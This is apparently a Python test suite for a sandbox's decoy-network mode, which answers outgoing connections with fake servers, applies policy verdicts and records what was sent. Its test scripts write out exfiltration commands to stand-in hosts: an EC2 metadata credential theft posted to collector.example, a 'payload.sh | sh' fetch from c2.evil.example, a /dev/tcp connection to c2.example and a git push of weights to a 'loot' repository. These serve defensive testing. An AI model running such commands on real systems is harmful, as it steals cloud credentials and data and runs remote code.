# SPDX-License-Identifier: Apache-2.0
"""Sessions in which decoys answer: --net=decoy, the verdict decoy, what the record has of it."""

import hashlib
import json
import os
import pathlib
import shutil
import unittest

from approver_testing import Approver, rule
from cordon_testing import SLOWER, TRACE, CordonTest, all_below, wait_for

DECOY = ("--net=decoy",)
CURL = "curl -sS --max-time 40"


def to_host(name, host, verdict, **more):
    return rule(name, f"action.host == '{host}'", on=("net.connect",), verdict=verdict,
                match={"kind": "net.connect", "host": host, "family": "inet", "address": "198.18.1.0"}, **more)


class DecoyTest(CordonTest):
    def connects(self):
        """Of TCP: resolvers connect datagram sockets too, to learn which address is nearer."""
        return [e for e in self.events("net.connect") if e["fields"]["protocol"] == "tcp"]


class Decoy(DecoyTest):
    def decoyed(self, script, options=(), **kw):
        done = self.sh(script, options=[*DECOY, *options], timeout=120, **kw)
        self.assertEqual(self.verified()[0], 0)
        return done

    def requests(self):
        return [e["fields"] for e in self.events("decoy.request")]

    def evidence(self, file):
        found = list((self.dir / "state/sessions").glob(f"*/decoy/{file}"))
        self.assertEqual(len(found), 1)
        return found[0].read_bytes()

    def test_what_is_sent_is_on_the_record(self):
        done = self.decoyed(f"{CURL} -d 'the data' https://api.example.com/collect")
        self.assertEqual((done.returncode, done.stdout), (0, b"ok\n"), done.stderr)
        [request] = self.requests()
        self.assertEqual({k: request[k] for k in ("host", "port", "protocol", "method", "path", "status", "body")},
                         {"host": "api.example.com", "port": 443, "protocol": "https", "method": "POST",
                          "path": "/collect", "status": 200, "body": "the data"})
        self.assertEqual(request["sha256"], hashlib.sha256(b"the data").hexdigest())
        self.assertEqual(self.evidence(request["file"]), b"the data")

    def test_what_policy_would_refuse_is_said(self):
        self.decoyed(f"{CURL} http://a.example/")
        # Without a trace all labels count as set, and a stricter rule speaks.
        rule_of_it = "ex.undeclared-egress" if TRACE == "on" else "ex.secret-then-egress"
        self.assertEqual({(e["verdict"], e["rule"], e["answered_by"]) for e in self.connects()},
                         {("deny", rule_of_it, "decoy")})
        [close] = self.events("net.close")
        self.assertEqual((close["fields"]["host"], close["fields"]["port"]), ("a.example", 80))
        self.assertGreater(close["fields"]["bytes_in"], 100)
        self.assertGreater(close["fields"]["bytes_out"], 30)

    def test_what_policy_allows_is_not_dialled(self):
        self.decoyed(f"{CURL} http://localhost.example/ http://192.0.2.1/",
                     options=["--allow-host=*.example", "--allow-host=192.0.2.1", "--allow-private=192.0.2.0/24"])
        self.assertEqual({(e["verdict"], e["answered_by"]) for e in self.events("net.connect")
                          if e["fields"]["family"] == "inet"},
                         {("allow" if TRACE == "on" else "deny", "decoy")})
        self.assertEqual([r["host"] for r in self.requests()], ["localhost.example", "192.0.2.1"])

    def test_its_own_loopback_stays_its_own(self):
        done = self.decoyed("python3 -m http.server --bind 127.0.0.1 8765 2>/dev/null & touch here;"
                            f"until {CURL} http://127.0.0.1:8765/; do sleep 0.1; done; kill %1")
        self.assertIn(b"here", done.stdout)
        self.assertEqual(self.requests(), [])

    def test_the_view_trusts_them(self):
        script = ("import urllib.request, ssl; print(urllib.request.urlopen('https://py.example/').status);"
                  "print(len(ssl.create_default_context().get_ca_certs()))")
        done = self.decoyed(f"python3 -c \"{script}\"; {CURL} https://curl.example >/dev/null && echo curl")
        self.assertRegex(done.stdout, rb"^200\n\d+\ncurl\n$", done.stderr)
        bundle = pathlib.Path("/etc/ssl/certs/ca-certificates.crt")
        if bundle.exists():
            self.assertGreater(int(done.stdout.split()[1]), 10, "the host's authorities are trusted as well")

    @unittest.skipUnless(shutil.which("node"), "no node")
    def test_node_trusts_them(self):
        done = self.decoyed("node -e \"fetch('https://n.example/').then(r => console.log(r.status))\"")
        self.assertEqual(done.stdout, b"200\n", done.stderr)

    def goes(self, end):
        """A file of the session's state; who serves the session may remove it after it has answered us."""
        return wait_for(lambda: not [p for p in all_below(self.dir / "state") if p.name.endswith(end)])

    JAVA_STORE = pathlib.Path("/etc/ssl/certs/java/cacerts")

    @unittest.skipUnless(shutil.which("keytool"), "no Java: keytool is not installed")
    @unittest.skipUnless(JAVA_STORE.exists(), "the host has no trust store for Java (package ca-certificates-java)")
    def test_java_trusts_them(self):
        # What comes is no list of revoked certificates, but fetched it was.
        done = self.decoyed("keytool -printcrl -file https://j.example/x.crl;"
                            f"keytool -list -keystore {self.JAVA_STORE} -storepass changeit | grep -c trustedCert")
        self.assertEqual([(r["protocol"], r.get("method"), r.get("path")) for r in self.requests()],
                         [("https", "GET", "/x.crl")], done.stdout)
        self.assertGreater(int(done.stdout.split()[-1]), 10, "the host's authorities are trusted as well")
        self.assertTrue(self.goes("cacerts"), "the store goes with the session")

    def test_nobody_else_trusts_them(self):
        self.decoyed("cat $SSL_CERT_FILE > bundle", options=["-w", f"{self.work}:live"])
        ours = (self.work / "bundle").read_text()
        host = pathlib.Path("/etc/ssl/certs/ca-certificates.crt")
        if host.exists():
            self.assertEqual(ours.count("BEGIN CERTIFICATE"), host.read_text().count("BEGIN CERTIFICATE") + 1)
        authority = ours[ours.rindex("-----BEGIN"):]
        self.assertTrue(self.goes(".crt"), "the bundle goes with the session")
        self.decoyed("cat $SSL_CERT_FILE > bundle", options=["-w", f"{self.work}:live"])
        self.assertNotIn(authority, (self.work / "bundle").read_text(), "each session has its own")

    def test_git_pushes(self):
        script = ("export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b;"
                  "git init -q -b main r && cd r && echo weights > w && git add w && git commit -qm x &&"
                  "git push -q https://git.example/me/loot.git main && echo pushed")
        done = self.decoyed(script)
        self.assertEqual(done.stdout, b"pushed\n", done.stderr)
        self.assertEqual(self.requests()[-1]["detail"], "1 ref (refs/heads/main), pack of 3 objects")

    def test_stolen_credentials_are_recognised(self):
        done = self.decoyed(
            "base=http://169.254.169.254/latest; "
            f"token=$({CURL} -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' $base/api/token);"
            f"get() {{ {CURL} -H \"X-aws-ec2-metadata-token: $token\" $base/meta-data/iam/security-credentials/$1; }};"
            "role=$(get); key=$(get $role | sed -n 's/.*AccessKeyId\": \"\\(.*\\)\",/\\1/p');"
            f"{CURL} -d \"key=$key\" https://collector.example/")
        self.assertEqual(done.stdout, b"ok\n", done.stderr)
        *before, last = self.requests()
        self.assertEqual(last["canaries"], ["aws-access-key-id"])
        self.assertEqual([r["service"] for r in before], ["metadata"] * 3)
        self.assertNotIn("canaries", before[-1])

    def test_what_is_not_searched_is_said(self):
        self.decoyed(f"head -c 8M /dev/zero | gzip >zeros; {CURL} --data-binary @zeros https://collector.example/")
        self.assertEqual([r["unsearched"] for r in self.requests()], ["it inflates to too much"])

    def test_decoys_of_a_file(self):
        file = self.dir / "decoys.json"
        file.write_text(json.dumps([{"host": "*.evil.example", "path": "/payload", "body": "echo from the decoy\n"},
                                    {"host": "c2.evil.example", "status": 503}]))
        done = self.decoyed(f"{CURL} http://c2.evil.example/payload.sh | sh;"
                            f"{CURL} -o /dev/null -w '%{{http_code}}\n' https://c2.evil.example/x",
                            options=[f"--decoys={file}"])
        self.assertEqual(done.stdout, b"from the decoy\n503\n", done.stderr)
        file.write_text('[{"host": "a", "status": 99}]')
        wrong = self.run_in("true", options=[*DECOY, f"--decoys={file}"])
        self.assertIn(b"$[0].status: must be a whole number from 200 to 599", wrong.stderr)
        wrong = self.run_in("true", options=["--net=none", f"--decoys={file}"])
        self.assertNotEqual(wrong.returncode, 0)

    def test_many_at_once(self):
        done = self.decoyed("for i in $(seq 60); do " + CURL + " -o /dev/null -d $i http://h$i.example/ & done; wait")
        self.assertEqual(done.returncode, 0, done.stderr)
        self.assertEqual(sorted(int(r["body"]) for r in self.requests()), list(range(1, 61)))

    def test_last_words(self):
        """What a program sends and does not wait for is evidence too."""
        self.decoyed("exec 3<>/dev/tcp/c2.example/4444; printf 'last words' >&3", options=[])
        # sh may be no bash: then nothing was sent, and there is nothing to see.
        if self.events("net.connect"):
            [request] = self.requests()
            self.assertEqual((request["protocol"], request["body"]), ("other", "last words"))

    def test_datagrams_go_nowhere(self):
        done = self.decoyed("python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM);"
                            "print(s.sendto(b'x', ('192.0.2.1', 9999)))\"")
        self.assertEqual(done.stdout, b"1\n", done.stderr)
        [send] = self.events("net.send")
        self.assertEqual((send["verdict"], send["answered_by"]), ("deny", "decoy"))

    def test_kill_kills(self):
        done = self.decoyed(f"{CURL} http://a.example/; echo on",
                            options=["-p", self.policy(to_host("k", "a.example", "kill"))])
        self.assertNotIn(b"on", done.stdout)
        self.assertEqual(self.requests(), [])

    def test_asked_and_allowed_is_not_dialled_either(self):
        approver = Approver(self)
        asks = self.policy(to_host("k", "a.example", "ask"))
        refused = self.decoyed(f"{CURL} http://a.example/", options=["-p", asks])
        self.assertNotEqual(refused.returncode, 0)
        approver.answer_all(lambda q: ("allow", {"scope": "session"}))
        allowed = self.decoyed(f"{CURL} http://a.example/", options=["-p", asks, approver.option])
        self.assertIn(b"It works", allowed.stdout, allowed.stderr)
        self.assertEqual([r["host"] for r in self.requests()], ["a.example"])

    def test_what_is_said_first_is_asked_about(self):
        """Each request of a connection; what was sent meanwhile is read when the answer is there."""
        asks = self.policy(rule("posts", "action.method in ['POST', 'PUT']", on=("net.request",), verdict="ask",
                                match={"kind": "net.request", "method": "POST"}))
        script = (f"{CURL} -d first http://a.example/ --next {CURL[5:]} -T - http://a.example/put </dev/null;"
                  f"{CURL} http://b.example/")
        approver = Approver(self)
        approver.answer_all(lambda q: "allow" if q["fields"]["method"] == "POST" else
                            ("deny", {"scope": "session"}))
        done = self.decoyed(script, options=["-p", asks, approver.option])
        self.assertEqual([(q["kind"], q["fields"]["method"]) for q in approver.asked],
                         [("net.request", "POST"), ("net.request", "PUT")])
        self.assertEqual([(r["host"], r["method"]) for r in self.requests()], [("a.example", "POST"), ("b.example", "GET")],
                         done.stderr)
        self.assertEqual(self.requests()[0]["body"], "first")
        self.assertEqual([e["verdict"] for e in self.events("ask.answer")], ["allow", "deny"])
        late = Approver(self, "late.sock")
        done = self.decoyed(f"{CURL} -d x http://a.example/; echo on", options=["-p", asks, late.option, "--approver-timeout", "1"])
        self.assertEqual(done.stdout, b"on\n")
        self.assertIn("within 1000 ms", self.events("ask.answer")[0]["fields"]["reason"])
        self.assertEqual(self.requests(), [])

    def test_who_is_asked_about_is_gone(self):
        asks = self.policy(rule("posts", "action.method == 'POST'", on=("net.request",), verdict="ask",
                                match={"kind": "net.request", "method": "POST"}))
        approver = Approver(self)
        run = self.start("sh", "-c", f"{CURL} -d x http://a.example/ & read x; kill -9 $!; wait $!; echo on",
                         options=[*DECOY, "-p", asks, approver.option], stdin=-1)
        question, peer = approver.next()
        out, err = run.communicate(b"\n", timeout=60 * SLOWER)
        self.assertEqual(out, b"on\n", err)
        self.assertEqual([e["verdict"] for e in self.events("ask.answer")], ["deny"])
        self.assertEqual(self.requests(), [])
        self.assertEqual(self.verified()[0], 0)

    def test_rules_on_what_is_said_first(self):
        deny = rule("no-posts", "action.method == 'POST'", on=("net.request",), verdict="deny",
                    match={"kind": "net.request", "method": "POST"})
        done = self.decoyed(f"{CURL} -d x http://a.example/; {CURL} https://b.example/", options=["-p", self.policy(deny)])
        self.assertTrue(done.stdout.startswith(b"ok\n"), done.stderr)
        plain, tls = self.events("net.request")
        self.assertEqual((plain["verdict"], plain["rule"], plain["answered_by"]), ("deny", "no-posts", "decoy"))
        self.assertEqual((plain["fields"]["method"], plain["fields"]["url_path"]), ("POST", "/"))
        self.assertEqual((tls["fields"]["protocol"], tls["fields"]["sni"]), ("tls", "b.example"))

    def test_rules_on_requests_of_http2(self):
        """In plain they are judged one by one, as those of HTTP/1; who would be asked is refused."""
        curl = f"{CURL} --http2-prior-knowledge"
        deny = rule("no-posts", "action.method == 'POST'", on=("net.request",), verdict="deny",
                    match={"kind": "net.request", "method": "POST"})
        self.decoyed(f"{curl} http://a.example/x; {curl} -d x http://a.example/", options=["-p", self.policy(deny)])
        judged = [(e["fields"]["protocol"], e["fields"].get("method"), e.get("rule")) for e in self.events("net.request")]
        self.assertIn(("http", "POST", "no-posts"), judged)
        self.assertEqual([p for p, m, _ in judged if not m], ["http2", "http2"])
        self.assertEqual([(r["method"], r["path"]) for r in self.requests()], [("GET", "/x"), ("POST", "/")])
        asks = self.policy(dict(deny, verdict="ask"))
        approver = Approver(self)
        done = self.decoyed(f"{curl} http://a.example/x; {curl} -d x http://a.example/",
                            options=["-p", asks, approver.option])
        self.assertIn(b"It works", done.stdout)
        self.assertEqual([(r["method"], r["path"]) for r in self.requests()], [("GET", "/x")])

    def test_observe_mode(self):
        done = self.decoyed(f"{CURL} http://a.example/", options=["--mode=observe"])
        self.assertIn(b"It works", done.stdout)
        self.assertEqual({(e["verdict"], e["answered_by"]) for e in self.connects()}, {("deny", "decoy")})

    def test_an_evaluation_has_decoys(self):
        done = self.sh(f"{CURL} http://a.example/", options=["--profile=eval"], timeout=120)
        self.assertIn(b"It works", done.stdout, done.stderr)


class Verdict(DecoyTest):
    """The verdict decoy, with the network relayed."""

    def relayed(self, script, *rules, options=(), **kw):
        return self.sh(script, options=["--net=relay", "-p", self.policy(*rules), *options], timeout=120, **kw)

    def test_answers(self):
        done = self.relayed(f"{CURL} -d x https://trap.example/; {CURL} http://other.example/",
                            to_host("trap", "trap.example", "decoy"))
        self.assertEqual(done.stdout, b"ok\n", done.stderr)
        self.assertEqual({(e["fields"]["host"], e["verdict"], e["rule"], e.get("answered_by"))
                          for e in self.connects()},
                         {("trap.example", "decoy", "trap", "decoy"), ("other.example", "deny", "default", None)})
        self.assertEqual([e["fields"]["host"] for e in self.events("decoy.request")], ["trap.example"])

    def test_is_stricter_than_allow_and_laxer_than_deny(self):
        allow = to_host("a", "trap.example", "allow")
        done = self.relayed(f"{CURL} -d x http://trap.example/", allow, to_host("b", "trap.example", "decoy"))
        self.assertEqual(done.stdout, b"ok\n", done.stderr)
        done = self.relayed(f"{CURL} -d x http://trap.example/", to_host("c", "trap.example", "deny"),
                            to_host("b", "trap.example", "decoy"))
        self.assertEqual(done.stdout, b"")
        asked = self.relayed(f"{CURL} -d x http://trap.example/", to_host("d", "trap.example", "ask"),
                             to_host("b", "trap.example", "decoy"))
        self.assertEqual(asked.stdout, b"ok\n", "nobody is asked about what does not leave")

    def test_rules_on_what_is_said_first(self):
        deny = rule("no-posts", "action.method == 'POST'", on=("net.request",), verdict="deny",
                    match={"kind": "net.request", "method": "POST"})
        done = self.relayed(f"{CURL} http://trap.example/; {CURL} -d x http://trap.example/",
                            to_host("trap", "trap.example", "decoy"), deny)
        self.assertIn(b"It works", done.stdout)
        self.assertNotEqual(done.returncode, 0)
        self.assertEqual([e["fields"]["method"] for e in self.events("decoy.request")], ["GET"])
        self.assertEqual(self.events("net.close")[-1]["fields"]["reason"], "refused by policy")

    def test_needs_a_network(self):
        done = self.run_in("true", options=["-p", self.policy(to_host("trap", "trap.example", "decoy"))])
        self.assertEqual(done.returncode, 125)
        self.assertIn(b"the rule trap of the policy has the verdict decoy, and the network of this session leads "
                      b"nowhere: start it with --net=relay or --net=decoy", done.stderr)

    def test_is_for_the_network_alone(self):
        done = self.run_in("true", options=["--net=relay", "-p", self.policy(
            rule("x", "action.name == 'id'", verdict="decoy", match={"kind": "exec", "name": "id"}))])
        self.assertEqual(done.returncode, 125)
        self.assertIn(b"a decoy answers net.connect, net.send and net.dns, and nothing else", done.stderr)
        self.assertRegex(done.stderr, rb"\.json:\d+:\d+: ")

    def test_lite_has_none(self):
        done = self.run_in("true", options=["--net=decoy", "--isolation=lite"])
        self.assertEqual(done.returncode, 125)
        self.assertIn(b"isolation lite has no network namespace", done.stderr)


if __name__ == "__main__":
    if not shutil.which("curl"):
        print("curl is not installed")
        raise SystemExit(77)
    os.environ.setdefault("CORDON_RESIDENT", "off")
    unittest.main()
